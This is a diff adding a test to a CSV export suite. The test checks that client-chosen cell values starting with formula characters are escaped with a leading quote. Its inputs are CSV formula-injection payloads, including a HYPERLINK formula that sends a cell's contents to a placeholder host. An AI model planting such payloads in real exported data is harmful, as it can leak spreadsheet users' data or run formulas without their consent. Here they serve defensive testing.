@@ -28,4 +28,17 @@ describe('export encodings', () => {
     const parsed = parse(body, { columns: true }) as Record<string, string>[];
     expect(parsed).toEqual([record, tricky]);
   });
+
+  it.each(['=HYPERLINK("http://x/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\tcmd'])(
+    'keeps a spreadsheet from running the client-chosen cell %j as a formula',
+    async (model) => {
+      const record = {
+        ...Object.fromEntries(EXPORT_HEADER.map((name) => [name, name])),
+        requested_model: model,
+      };
+      const body = await text(Readable.from([record]).pipe(EXPORT_ENCODINGS.csv.encoder()));
+      const [parsed] = parse(body, { columns: true }) as Record<string, string>[];
+      expect(parsed?.requested_model).toBe(`'${model}`);
+    },
+  );
 });
